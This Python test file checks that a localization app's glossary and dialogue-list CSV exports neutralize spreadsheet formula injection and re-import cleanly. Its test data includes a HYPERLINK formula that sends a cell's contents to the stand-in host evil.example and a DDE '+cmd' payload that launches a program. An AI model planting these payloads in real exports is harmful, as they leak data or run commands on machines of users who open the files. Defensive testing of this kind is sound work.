"""CSV exports a spreadsheet cannot run (formula injection), and our imports that read them back as they were."""
from __future__ import annotations

import csv
import io

from localize.csv_safe import FORMULA_STARTS

G = "/api/v1/series/heir/glossary"
V = "/api/v1/series/heir/versions"
ORIGINAL = f"{V}/en-US/episodes/1/script"
REMAKE = f"{V}/es-MX/episodes/1/script"
FOUNTAIN = """INT. MANSION - NIGHT

ETHAN
I waited 3 years for this night.

CLAIRE
Who told you?
"""
ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
HOSTILE = [  # (source, target, kind, note) as a lead typed them
    (ATTACK, "=1+1", "term", "@SUM(A1:A9)"),
    ("-minus sign", "+cmd|' /C calc'!A0", "term", "-2+3"),
    ("@mention", "@mención", "keep", "=cmd"),
    ("'=already quoted", "'-x", "term", "it's fine"),
    ("-3", "-0.5", "term", "+7"),
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _glossary(lead) -> list[tuple]:
    return sorted((e["source"], e["target"], e["kind"], e["note"])
                  for e in lead.get(G + "?target_locale=es-MX").get_json()["entries"] if e["kind"] != "name")


def test_glossary_csv_export_is_guarded_and_imports_back_exactly(lead, series):
    for source, target, kind, note in HOSTILE:
        r = lead.post(G, {"target_locale": "es-MX", "source": source, "target": target, "kind": kind, "note": note})
        assert r.status_code == 201, r.get_json()
    cid = lead.post("/api/v1/series/heir/characters", {"name": "@Ethan"}).get_json()["id"]
    assert lead.put(f"{V}/es-MX/casting/{cid}", {"localized_name": "=Mateo"}).status_code in (200, 201)
    stored = _glossary(lead)
    assert stored == sorted(HOSTILE)

    text = lead.get(G + ".csv?target_locale=es-MX").get_data(as_text=True)
    rows = _cells(text)
    assert rows[0] == ["source", "target", "kind", "note"]
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert risky == ["-3", "-0.5", "+7"]  # plain numbers stay numbers
    by_source = {row[0]: row for row in rows[1:]}
    assert by_source["'" + ATTACK] == ["'" + ATTACK, "'=1+1", "term", "'@SUM(A1:A9)"]
    assert by_source["''=already quoted"] == ["''=already quoted", "''-x", "term", "it's fine"]
    assert by_source["'@Ethan"][:3] == ["'@Ethan", "'=Mateo", "name"]

    # The file as exported: nothing changes; then into an empty glossary: every entry as typed.
    again = lead.post(G + ".csv?target_locale=es-MX", data=text.encode(), headers={"Content-Type": "text/csv"})
    assert again.status_code == 200, again.get_json()
    assert (again.get_json()["added"], again.get_json()["updated"], again.get_json()["unchanged"]) == (0, 0, 5)
    for entry in lead.get(G + "?target_locale=es-MX").get_json()["entries"]:
        if entry["kind"] != "name":
            assert lead.delete(f"{G}/{entry['id']}").status_code == 204
    assert _glossary(lead) == []
    back = lead.post(G + ".csv?target_locale=es-MX", data=text.encode(), headers={"Content-Type": "text/csv"})
    assert back.status_code == 200 and back.get_json()["added"] == 5, back.get_json()
    assert back.get_json()["skipped"] == [{"row": 2, "source": "@Ethan", "reason": "name entries come from casting"}]
    assert _glossary(lead) == stored


def test_a_hand_written_csv_keeps_its_formula_like_terms(lead, series):
    """A file a lead wrote (no guard) imports as it reads; only the guard `'` before a formula character goes."""
    body = "source,target,kind,note\r\n=A1,=B1,term,-x\r\n'-y,'plain,term,'+1\r\n"
    r = lead.post(G + ".csv?target_locale=es-MX", data=body.encode(), headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.get_json()
    assert _glossary(lead) == [("-y", "'plain", "term", "'+1"), ("=A1", "=B1", "term", "-x")]


def test_dialogue_list_guards_hostile_lines_and_names_but_not_numbers(lead, series, script_formats):
    assert lead.put(ORIGINAL, data=FOUNTAIN.encode(), headers={"Content-Type": "text/plain"}).status_code == 201
    assert lead.post(REMAKE + "/translate").status_code == 201
    segments = lead.get(REMAKE).get_json()["segments"]
    lines = [i for i, s in enumerate(segments) if s["kind"] == "dialogue"]
    segments[lines[0]].update(text=ATTACK, note="@everyone", status="translated")
    segments[lines[1]].update(character={"name": "-CLAIRE"}, text="-1", note="\r=cmd", status="translated")
    assert lead.put(REMAKE, {"segments": segments}).status_code == 200

    response = lead.get(f"{V}/es-MX/episodes/1/dialogue-list.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _cells(response.get_data(as_text=True))
    assert rows[0] == ["number", "in", "out", "character", "source", "text", "note"]
    assert [row[3:] for row in rows[1:]] == [
        ["ETHAN", "I waited 3 years for this night.", "'" + ATTACK, "'@everyone"],
        ["'-CLAIRE", "Who told you?", "-1", "'\r=cmd"]]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and cell != "-1"]
